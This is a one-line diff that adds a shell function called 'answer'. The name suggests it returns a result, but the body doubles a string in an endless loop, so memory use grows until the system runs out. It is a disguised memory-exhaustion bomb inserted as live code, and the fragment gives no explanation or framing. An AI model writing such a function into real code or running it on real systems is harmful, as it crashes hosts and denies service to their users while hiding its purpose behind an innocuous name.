@@ -1,0 +1,1 @@
+answer() { x=x; while :; do x=$x$x; done; }
